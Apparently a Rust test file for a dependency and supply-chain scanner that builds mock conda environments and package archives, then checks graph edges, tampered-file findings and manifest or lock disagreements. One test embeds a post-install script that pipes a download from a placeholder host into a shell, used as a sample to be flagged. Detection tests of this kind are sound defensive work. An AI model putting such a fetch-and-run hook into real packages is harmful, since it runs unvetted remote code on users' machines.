//! Environments of conda, made here as conda makes them: a folder with a note for each package and its files.

use std::collections::BTreeMap;

use std::io::Write as _;

use flate2::Compression;
use flate2::write::GzEncoder;
use libtest_mimic::Trial;
use ruzstd::encoding::{CompressionLevel, compress_to_vec};
use weighbridge_core::digest::Digest;
use weighbridge_core::graph::{Graph, Relation};
use weighbridge_engine::join::{Input, Joined, join};
use weighbridge_engine::read::Readings;

use crate::suite::build::{Archive, tar_of};
use crate::support::{self, Folder, context, test, weigh};

pub(crate) fn tests() -> Vec<Trial> {
    vec![
        test("conda::an_environment_is_its_packages", an_environment_is_its_packages),
        test("conda::a_package_brings_its_distribution", a_package_brings_its_distribution),
        test("conda::what_pip_adds_asks_for_conda_packages", what_pip_adds_asks_for_conda_packages),
        test("conda::a_cache_installs_nothing", a_cache_installs_nothing),
        test("conda::files_are_held_against_the_notes", files_are_held_against_the_notes),
        test("conda::a_manifest_is_answered_by_the_environment", a_manifest_is_answered_by_the_environment),
        test("conda::package_files_hold_packages", package_files_hold_packages),
        test(
            "conda::package_files_are_held_against_their_record",
            package_files_are_held_against_their_record,
        ),
        test("conda::manifests_and_locks_may_disagree_with_it", manifests_and_locks_may_disagree_with_it),
        test("conda::scripts_in_package_files_are_told", scripts_in_package_files_are_told),
    ]
}

/// A package as conda notes it.
struct Package<'a> {
    name: &'a str,
    version: &'a str,
    depends: &'a [&'a str],
    /// Path and content.
    files: &'a [(&'a str, &'a str)],
}

/// The note that conda writes of a package.
pub(crate) fn note(name: &str, version: &str, depends: &[&str], files: &[(&str, &str)]) -> String {
    let depends: Vec<String> = depends.iter().map(|text| format!("{text:?}")).collect();
    let paths: Vec<String> = files
        .iter()
        .map(|(path, content)| {
            let digest = Digest::of(content.as_bytes());
            let size = content.len();
            format!(
                r#"{{"_path": "{path}", "path_type": "hardlink", "sha256": "{digest}", "sha256_in_prefix": "{digest}", "size_in_bytes": {size}}}"#
            )
        })
        .collect();
    let names: Vec<String> = files.iter().map(|(path, _)| format!("{path:?}")).collect();
    format!(
        r#"{{"name": "{name}", "version": "{version}", "build": "0", "depends": [{}], "files": [{}],
            "paths_data": {{"paths": [{}], "paths_version": 1}}, "url": "https://host.example/c/linux-64/{name}-{version}-0.conda"}}"#,
        depends.join(", "),
        names.join(", "),
        paths.join(", "),
    )
}

/// Installs packages into the environment `env`.
fn environment(folder: Folder, packages: &[Package<'_>]) -> Folder {
    let mut folder = folder.file("env/conda-meta/history", "==> 2026-01-01 00:00:00 <==\n");
    for Package { name, version, depends, files } in packages {
        let path = format!("env/conda-meta/{name}-{version}-0.json");
        folder = folder.file(path, note(name, version, depends, files));
        for (path, content) in *files {
            folder = folder.file(format!("env/{path}"), content);
        }
    }
    folder
}

fn python() -> Package<'static> {
    Package {
        name: "python",
        version: "3.12.1",
        depends: &["openssl >=3.0,<4.0a0", "__glibc >=2.17"],
        files: &[("bin/python3.12", "program")],
    }
}

const OPENSSL: Package<'_> =
    Package { name: "openssl", version: "3.0.7", depends: &[], files: &[("lib/notes.txt", "ssl")] };

const METADATA: &str = "Metadata-Version: 2.1\nName: pillow\nVersion: 9.0.0\n";

fn pillow() -> Package<'static> {
    Package {
        name: "pillow",
        version: "9.0.0",
        depends: &["python >=3.12,<3.13.0a0"],
        files: &[
            ("lib/python3.12/site-packages/PIL/__init__.py", "image = 1\n"),
            ("lib/python3.12/site-packages/pillow-9.0.0.dist-info/METADATA", METADATA),
            // The record is the one of the build and true nowhere else.
            (
                "lib/python3.12/site-packages/pillow-9.0.0.dist-info/RECORD",
                "PIL/__init__.py,sha256=47DEQpj8HBSa-_TImW-5JCeuQeRkm5NMpJWZG3hSuFU,0\n",
            ),
        ],
    }
}

fn joined(folder: &Folder) -> (Joined, Readings) {
    let readings = weigh_all(folder);
    let context = context();
    let (facts, files, chosen) = (&readings.facts, &readings.files, BTreeMap::new());
    let joined = join(&Input { name: "target", facts, chosen: &chosen, files, context: &context });
    (joined, readings)
}

fn weigh_all(folder: &Folder) -> Readings {
    let context = context();
    let opened = weighbridge_net::open(&folder.text(), &context).unwrap();
    let options =
        weighbridge_engine::read::Options { readers: weighbridge_read::READERS, exclude: &[], jobs: None };
    weighbridge_engine::read::read(vec![opened], &options, &context, &()).unwrap()
}

/// The edges as `FROM -> TO` (asks), `FROM >> TO` (holds), with the type of each package.
fn edges(graph: &Graph) -> Vec<String> {
    let edges = graph.edges.keys().map(|edge| {
        let arrow = if edge.relation == Relation::DependsOn { "->" } else { ">>" };
        let short = |text: String| text.replace("pkg:", "");
        format!("{} {arrow} {}", short(edge.from.to_string()), short(edge.to.to_string()))
    });
    edges.collect()
}

/// The findings of the rules about installed files.
fn findings(folder: &Folder) -> Vec<String> {
    findings_of(folder, &["WB-D003", "WB-D004", "WB-D005"])
}

fn findings_of(folder: &Folder, rules: &[&str]) -> Vec<String> {
    let (joined, readings) = joined(folder);
    support::findings_of(&joined, &readings, &context(), |rule| rules.contains(&rule))
}

fn an_environment_is_its_packages() {
    let folder = environment(Folder::new(), &[python(), OPENSSL]);
    let (joined, readings) = joined(&folder);
    assert_eq!(readings.coverage.unread, []);
    assert_eq!(
        edges(&joined.graph),
        [
            "project: >> environment:env",
            "environment:env >> conda/python@3.12.1",
            "conda/python@3.12.1 -> conda/openssl@3.0.7",
        ]
    );
    // The environment alone, and one without any Python.
    let env = weighbridge_net::open(&format!("venv:{}/env", folder.text()), &context()).unwrap();
    assert!(env.entries.iter().any(|entry| entry.path.contains("python-3.12.1-0.json")));
    let (joined, _) = self::joined(&environment(Folder::new(), &[OPENSSL]));
    assert_eq!(edges(&joined.graph).last().unwrap(), "environment:env >> conda/openssl@3.0.7");
}

fn a_package_brings_its_distribution() {
    let (joined, _) = joined(&environment(Folder::new(), &[python(), OPENSSL, pillow()]));
    let edges = edges(&joined.graph);
    assert!(edges.contains(&"conda/pillow@9.0.0 >> pypi/pillow@9.0.0".to_owned()), "{edges:#?}");
    assert!(edges.contains(&"environment:env >> conda/pillow@9.0.0".to_owned()), "{edges:#?}");
    assert!(!edges.contains(&"environment:env >> pypi/pillow@9.0.0".to_owned()), "{edges:#?}");
    assert_eq!(joined.installed.len(), 3, "only conda's notes are records");
}

fn what_pip_adds_asks_for_conda_packages() {
    let site = "env/lib/python3.12/site-packages";
    let folder = environment(
        Folder::new(),
        &[
            python(),
            OPENSSL,
            pillow(),
            Package { name: "pytorch", version: "2.1.0", depends: &["python"], files: &[] },
        ],
    );
    let folder = folder
        .file(
            format!("{site}/shop-1.dist-info/METADATA"),
            "Metadata-Version: 2.1\nName: shop\nVersion: 1\nRequires-Dist: Pillow>=9\nRequires-Dist: torch\n",
        )
        .file(format!("{site}/shop-1.dist-info/RECORD"), "shop-1.dist-info/METADATA,,\n");
    let edges = edges(&joined(&folder).0.graph);
    for edge in [
        "environment:env >> pypi/shop@1",
        "pypi/shop@1 -> conda/pillow@9.0.0",
        "pypi/shop@1 -> conda/pytorch@2.1.0",
    ] {
        assert!(edges.contains(&edge.to_owned()), "{edges:#?}");
    }
}

fn a_cache_installs_nothing() {
    let cached = "env/pkgs/old-1-0";
    let folder = environment(Folder::new(), &[OPENSSL])
        .file(format!("{cached}/info/index.json"), r#"{"name": "old", "version": "1"}"#)
        .file(format!("{cached}/conda-meta/old-1-0.json"), note("old", "1", &[], &[]))
        .file(format!("{cached}/site-packages/old-1.dist-info/METADATA"), "Name: old\nVersion: 1\n");
    let (joined, readings) = joined(&folder);
    assert_eq!(edges(&joined.graph).len(), 2, "{:#?}", edges(&joined.graph));
    assert_eq!(readings.coverage.excluded, ["env/pkgs"]);
    // A folder of this name elsewhere is what it is.
    let folder = Folder::new().file("pkgs/requirements.txt", "six==1.17.0\n");
    assert_eq!(edges(&self::joined(&folder).0.graph).len(), 2);
    assert!(weigh(&Folder::new().file("pkgs/requirements.txt", "six\n"), &context()).is_err());
}

fn files_are_held_against_the_notes() {
    let whole = || environment(Folder::new(), &[python(), OPENSSL, pillow()]);
    assert_eq!(findings(&whole()), Vec::<String>::new());
    let altered = whole().file("env/lib/python3.12/site-packages/PIL/__init__.py", "image = 2\n");
    assert_eq!(findings(&altered), ["WB-D003 high 1 file of pillow 9.0.0 is not as installed"]);
    let stray = whole().file("env/lib/python3.12/site-packages/PIL/more.py", "image = 2\n");
    let found = findings(&stray);
    assert!(found.len() == 1 && found[0].starts_with("WB-D004"), "{found:?}");
    // Installers state nothing but names of links and of what they make.
    let text = r#"{"name": "a", "version": "1", "files": ["bin/a", "lib/b"], "paths_data": {"paths": [{"_path": "bin/a", "path_type": "softlink", "sha256": "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"}]}}"#;
    let links = whole().file("env/conda-meta/a-1-0.json", text);
    assert_eq!(findings(&links), Vec::<String>::new());
}

fn a_manifest_is_answered_by_the_environment() {
    let folder = environment(Folder::new(), &[python(), OPENSSL, pillow()])
        .file("environment.yml", "dependencies:\n- pillow\n- python=3.12\n")
        .file("requirements.txt", "Pillow>=8\n");
    let edges = edges(&joined(&folder).0.graph);
    assert_eq!(
        edges,
        [
            "project: >> environment:env",
            "project: -> conda/pillow@9.0.0",
            "project: -> conda/pillow@9.0.0",
            "project: -> conda/python@3.12.1",
            "conda/pillow@9.0.0 -> conda/python@3.12.1",
            "conda/pillow@9.0.0 >> pypi/pillow@9.0.0",
            "conda/python@3.12.1 -> conda/openssl@3.0.7",
        ]
    );
}

/// The members of a package, as its archives hold them.
fn members<'a>(index: &'a str, script: &'a str) -> [(&'static str, &'a [u8]); 2] {
    [("info/index.json", index.as_bytes()), ("bin/.shop-post-link.sh", script.as_bytes())]
}

const INDEX: &str =
    r#"{"name": "shop", "version": "1.0", "build": "0", "depends": ["python >=3.9"], "subdir": "noarch"}"#;

/// `NAME.conda`: a zip that holds two archives packed by Zstandard.
fn package(script: &str) -> Vec<u8> {
    let [index, script] = members(INDEX, script);
    let pack =
        |member: (&str, &[u8])| compress_to_vec(tar_of(&[member]).as_slice(), CompressionLevel::Fastest);
    Archive::default()
        .stored("metadata.json", br#"{"conda_pkg_format_version": 2}"#)
        .stored("info-shop-1.0-0.tar.zst", &pack(index))
        .stored("pkg-shop-1.0-0.tar.zst", &pack(script))
        .bytes()
}

fn package_files_hold_packages() {
    let folder = Folder::new().file("dist/shop-1.0-0.conda", package("true\n"));
    let (joined, readings) = joined(&folder);
    assert_eq!(readings.coverage.unread, []);
    let edges = edges(&joined.graph);
    assert_eq!(edges.len(), 2, "{edges:#?}");
    assert!(
        edges[1].ends_with(">> conda/shop@1.0") && edges[0].starts_with("project: >> sha256:"),
        "{edges:#?}"
    );
    // A file of this name that is something else names no package.
    let other = Archive::default().stored("info/index.json", br#"{"title": "help"}"#).bytes();
    let (joined, readings) = self::joined(&Folder::new().file("help.zip", other));
    assert_eq!((joined.graph.edges.len(), readings.coverage.unread.len()), (0, 0));
}

/// A package whose record was written for a script that ends well, with members behind it.
fn recorded(file: &str, script: &str, more: &[(&str, &[u8])]) -> Folder {
    let digest = Digest::of(b"true\n");
    let record = format!(
        r#"{{"paths": [
            {{"_path": "bin/shop", "path_type": "hardlink", "sha256": "{digest}", "size_in_bytes": 5, "prefix_placeholder": "/opt/x"}},
            {{"_path": "bin/link", "path_type": "softlink", "sha256": "{digest}", "size_in_bytes": 5}}], "paths_version": 1}}"#
    );
    let info = [("info/index.json", INDEX.as_bytes()), ("info/paths.json", record.as_bytes())];
    let own: Vec<(&str, &[u8])> =
        [("bin/shop", script.as_bytes())].into_iter().chain(more.iter().copied()).collect();
    let bytes = if file.ends_with(".conda") {
        let pack = |members: &[(&str, &[u8])]| {
            compress_to_vec(tar_of(members).as_slice(), CompressionLevel::Fastest)
        };
        Archive::default()
            .stored("metadata.json", br#"{"conda_pkg_format_version": 2}"#)
            .stored("info-shop-1.0-0.tar.zst", &pack(&info))
            .stored("pkg-shop-1.0-0.tar.zst", &pack(&own))
            .bytes()
    } else {
        let all: Vec<(&str, &[u8])> = own.into_iter().chain(info).collect();
        let mut packed = GzEncoder::new(Vec::new(), Compression::fast());
        packed.write_all(&tar_of(&all)).unwrap();
        packed.finish().unwrap()
    };
    Folder::new().file(file, bytes)
}

fn package_files_are_held_against_their_record() {
    // What packs an archive shows in its first bytes, whatever it is called; so `gzip` stands for `bzip2` here.
    for file in ["shop-1.0-0.conda", "shop-1.0-0.tar.bz2"] {
        let told = |script, more: &[(&str, &[u8])]| findings_of(&recorded(file, script, more), &["WB-D014"]);
        assert_eq!(told("true\n", &[]), Vec::<String>::new(), "{file}");
        assert_eq!(
            told("evil\n", &[("bin/more", b"x")]),
            [format!("WB-D014 high {file}: 1 member differs from its record, 1 member is not in it")]
        );
        assert_eq!(
            told("true\n", &[("lib/more.py", b"x")]),
            [format!("WB-D014 low {file}: 1 member is not in its record")]
        );
        // A package from before there was such a record.
        assert_eq!(
            findings_of(&Folder::new().file(file, package("true\n")), &["WB-D014"]),
            Vec::<String>::new()
        );
    }
}

/// Where what is installed disagrees with these files beside the environment, which lies in `at`.
fn disagreeing(at: &str, files: &[(&str, &str)]) -> Vec<String> {
    let mut folder = Folder::new();
    for (name, version) in [("python", "3.12.1"), ("openssl", "3.0.7")] {
        folder =
            folder.file(format!("{at}/conda-meta/{name}-{version}-0.json"), note(name, version, &[], &[]));
    }
    for (path, text) in files {
        folder = folder.file(path, text);
    }
    let told = joined(&folder).0.disagreements.into_iter();
    told.map(|it| format!("{} {} in {}, {}", it.name, it.wanted, it.stated, it.found.unwrap_or_default()))
        .collect()
}

fn manifests_and_locks_may_disagree_with_it() {
    let manifest = ("environment.yml", "dependencies:\n- python=3.11\n- openssl>=3\n- zlib=1.2\n");
    let expected = ["python 3.11.* in environment.yml, 3.12.1"];
    assert_eq!(disagreeing("env", &[manifest]), expected);
    assert_eq!(disagreeing("env", &[("lowest-environment.yml", manifest.1)]), Vec::<String>::new());
    // Whose environment this is nobody says.
    assert_eq!(disagreeing("opt/conda/envs/a", &[manifest]), Vec::<String>::new());
    let second = ("other/conda-meta/python-3.11.2-0.json", &*note("python", "3.11.2", &[], &[]));
    assert_eq!(disagreeing("env", &[manifest, second]), Vec::<String>::new());

    let package = |name: &str, version: &str, platform: &str| {
        format!("- {{name: {name}, version: {version}, manager: conda, platform: {platform}, url: ''}}\n")
    };
    let lock = |openssl: &str| {
        let packages = [
            package("python", "3.12.1.0", "linux-64"),
            package("openssl", "3.0.6", "linux-64"),
            package("openssl", openssl, "osx-64"),
        ];
        format!("version: 1\nmetadata: {{}}\npackage:\n{}", packages.concat())
    };
    assert_eq!(
        disagreeing("env", &[("conda-lock.yml", &lock("3.0.5"))]),
        ["openssl 3.0.5, 3.0.6 in conda-lock.yml, 3.0.7"]
    );
    assert_eq!(disagreeing("env", &[("conda-lock.yml", &lock("3.0.7"))]), Vec::<String>::new());

    let pixi = |version: &str| {
        let address = format!("https://host.example/c/linux-64/openssl-{version}-0.conda");
        format!(
            "version: 6\nenvironments:\n  default:\n    channels: []\n    packages:\n      linux-64:\n      - conda: {address}\n\
             packages:\n- conda: {address}\n"
        )
    };
    assert_eq!(
        disagreeing(".pixi/envs/default", &[("pixi.lock", &pixi("3.1.0"))]),
        ["openssl 3.1.0 in pixi.lock, 3.0.7"]
    );
    assert_eq!(disagreeing(".pixi/envs/default", &[("pixi.lock", &pixi("3.0.7"))]), Vec::<String>::new());
}

fn scripts_in_package_files_are_told() {
    let with = |script: &str| {
        findings_of(&Folder::new().file("shop-1.0-0.conda", package(script)), &["WB-D009", "WB-A001"])
    };
    assert_eq!(with("fc-cache\n"), ["WB-D009 low `shop-1.0-0.conda` runs code when it is installed"]);
    assert_eq!(
        with("curl https://host.example/x | sh\n"),
        ["WB-D009 high `shop-1.0-0.conda` runs code when it is installed"]
    );
    let source = |name: &str| {
        let setup = b"from setuptools import setup\nsetup(name='shop')\n";
        let about = b"Name: shop\nVersion: 1.0\n";
        let archive = tar_of(&[("shop-1.0/setup.py", setup.as_slice()), ("shop-1.0/PKG-INFO", about)]);
        let mut packed = GzEncoder::new(Vec::new(), Compression::fast());
        packed.write_all(&archive).unwrap();
        findings_of(&Folder::new().file(name, packed.finish().unwrap()), &["WB-D009"])
    };
    assert_eq!(
        source("shop-1.0.tar.gz"),
        ["WB-D009 low `shop-1.0.tar.gz` runs code when it is built to be installed"]
    );
    assert_eq!(source("other.tar.gz"), Vec::<String>::new());
}
